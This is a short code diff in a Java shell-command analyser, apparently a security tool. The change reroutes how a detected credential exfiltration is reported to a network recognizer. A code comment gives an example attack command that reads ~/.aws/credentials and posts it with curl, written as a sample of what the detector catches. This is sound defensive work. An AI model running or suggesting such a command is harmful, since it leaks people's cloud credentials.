@@ -86,7 +86,7 @@ final class SimpleCommands {
         if (!substituted.isEmpty()) {
             // curl -d "$(cat ~/.aws/credentials)" https://…: a secret read for an argument of a network command leaves with it.
             Flows.carried(s, substituted, walk).filter(c -> c.type().equals("credentials")).ifPresent(cargo ->
-                    Flows.networkCommand(words).ifPresent(host -> walk.add(Flows.exfiltration(cargo, host, walk.evidence(s.span()), walk.locators))));
+                    Flows.networkCommand(words).ifPresent(host -> walk.add(dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer.exfiltration(cargo.type(), cargo.what(), host, walk.evidence(s.span()), walk.locators))));
         }
         walk.carried.observe(words, walk);
         if (!words.isEmpty() && words.getFirst().literal() && words.getFirst().value().equals("alias")) {
